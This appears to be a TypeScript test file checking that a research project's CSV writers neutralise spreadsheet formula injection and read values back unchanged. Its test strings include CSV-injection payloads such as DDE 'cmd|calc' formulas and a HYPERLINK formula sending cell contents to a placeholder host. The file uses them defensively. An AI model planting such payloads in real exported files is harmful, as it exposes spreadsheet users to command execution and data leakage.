// Tables as CSV: no text of them is run by a spreadsheet that opens them, and all is read back as it was.
import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import test, { after } from 'node:test';
import { historyCsv } from '../lib/src/training/history';
import { mergeParts, writePart } from '../lib/src/evaluation/parts';
import { perPhoto, writeTable, type Trial } from '../lib/src/evaluation';
import { Random, readTable } from 'descent-lab';
import { readHistory } from '../lib/src/training';
import { readVectors, writeVectors } from '../lib/src/spreads';
import { UNTOUCHED } from '../lib/src/evaluation/trial';
import { writeRaceTable } from '../lib/src/races/table';
import { type RaceRun } from '../lib/src/races';
import { heightWeightCsv } from '../scripts/experiments/height-weight';
import { readFrame, recordsOf } from '../lib/src/data/frame';
import { csvOf, unguarded } from '../lib/src/data/write-csv';
import { writeRounded } from '../scripts/experiments/race/write-rounded';

const folder = mkdtempSync(join(tmpdir(), 'csv-'));
after(() => rmSync(folder, { recursive: true }));

/** What a spreadsheet would run, and what is hard to read back. */
const texts = [
  '=cmd|calc/cat.1.jpg',
  '=HYPERLINK("http://host.example?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=1,2',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  "'-5",
  '-x',
  '--5',
  'cat/a "b", c.jpg',
  'two\nlines',
  'x=1',
  "it's",
  "'",
  'dog/-1.jpg',
  '-5',
  '1e-7',
  'ä €',
];

/** The cells of a CSV file as RFC 4180 reads them. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\n') rows.push([]);
  }
  assert.deepEqual(rows.pop(), [], 'the last line has an end');
  return rows;
}

/** The cells that a spreadsheet would run. A number is none of them. */
const formulae = (text: string): string[] =>
  cellsOf(text)
    .flat()
    .filter((cell) => /^(\s*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) && !Number.isFinite(Number(cell)));

const NOTHING = { success: null, linf: null, l2: null, psnr: null, transfer: null };
const trials = texts.flatMap((text, index): Trial[] => {
  const photo = { index, photo: `${text}.jpg`, truth: text, label: text };
  return [
    { ...photo, attack: UNTOUCHED, epsilon: 0, ...NOTHING },
    { ...photo, attack: 'fgsm', epsilon: 1 / 255, success: true, linf: 1 / 255, l2: 0.5, psnr: 40, transfer: null },
  ];
});
const plan = [{ attack: 'fgsm', epsilon: 1 / 255 }];
const evaluation = { trials, plan, classes: texts, run: texts[0]! };

test('no table that is written has a cell that a spreadsheet runs', () => {
  const runs = texts.map((optimizer) => ({
    optimizer,
    path: [
      [-1.5, 2],
      [0, -0],
    ],
    loss: [-3, 1e-9],
  })) as unknown as RaceRun[];
  const rows = texts.map((text, i) => ({ [text]: text, number: -i, nothing: null }));
  const writers: Record<string, (path: string) => void> = {
    'a race': (path) => writeRaceTable(path, runs),
    'the tables of races': (path) =>
      writeRounded(
        path,
        ['text', 'number'],
        texts.map((text) => ({ text, number: -1.23456789 })),
      ),
    'an evaluation': (path) => writeTable(path, rows),
    'a row a photo': (path) => writeTable(path, perPhoto(trials, texts)),
    'a part': (path) => writePart(path, evaluation, { index: 1, count: 1 }),
    vectors: (path) =>
      writeVectors(path, [
        [-0.6, 0.8],
        [0, -1],
      ]),
    'a history': (path) => writeFileSync(path, historyCsv([{ epoch: 1, loss: -0.5, accuracy: 0.5 }])),
    "the article's data": (path) => writeFileSync(path, heightWeightCsv(new Random(1))),
  };
  for (const [name, write] of Object.entries(writers)) {
    const path = join(folder, 'table.csv');
    write(path);
    const text = readFileSync(path, 'utf8');
    assert.deepEqual(formulae(text), [], name);
    assert.ok(cellsOf(text).length > 1, name);
    assert.equal(new Set(cellsOf(text).map((row) => row.length)).size, 1, `${name}: as many cells in each row`);
  }
});

test('texts are read back as they were, and numbers are never touched', () => {
  const path = join(folder, 'back.csv');
  writeRounded(
    path,
    ['text', 'number'],
    texts.map((text, i) => ({ text, number: (1 - i) / 4 })),
  );
  const isNumber = (text: string): boolean => text === '-5' || text === '1e-7';
  assert.deepEqual(
    readTable(path),
    texts.map((text, i) => ({ text: isNumber(text) ? Number(text) : text, number: (1 - i) / 4 })),
  );
  assert.match(readFileSync(path, 'utf8'), /,-0\.25\n/);
  for (const text of texts) assert.equal(unguarded(cellsOf(csvOf([text], []))[0]![0]!), text);
  const history = [
    { epoch: 1, loss: 0.5, accuracy: 0.25 },
    { epoch: 2, loss: 1e-9, accuracy: 1, testLoss: 2, testAccuracy: 0 },
  ];
  writeFileSync(path, historyCsv(history));
  assert.deepEqual(readHistory(path), history);
  writeVectors(path, [
    [-0.6, 0.8],
    [0, -1],
  ]);
  assert.deepEqual(readVectors(path), [
    [-0.6, 0.8],
    [0, -1],
  ]);
});

test('photos and classes with such names go through the parts of an evaluation, as CSV and as Parquet', () => {
  for (const ending of ['csv', 'parquet']) {
    const files = [1, 2].map((index) => {
      const path = join(folder, `part-${index}.${ending}`);
      const own = trials.filter((trial) => trial.index % 2 === index - 1);
      writePart(path, { ...evaluation, trials: own }, { index, count: 2 });
      return path;
    });
    assert.deepEqual(mergeParts(files), { trials, plan }, ending);
  }
  const foreign = join(folder, 'foreign.csv');
  writeFileSync(foreign, "a\n'=1\n");
  assert.deepEqual(recordsOf(readFrame(foreign)), [{ a: "'=1" }], 'a table of somebody else stays as it is');
});

test('the tables in data/ would be written with the same bytes', () => {
  const data = join(__dirname, '..', 'data');
  const tables = readdirSync(data).filter((file) => file.endsWith('.csv'));
  assert.ok(tables.length > 10);
  for (const file of tables) {
    const text = readFileSync(join(data, file), 'utf8');
    const [header, ...rows] = cellsOf(text);
    assert.equal(csvOf(header!, rows), text, file);
  }
});
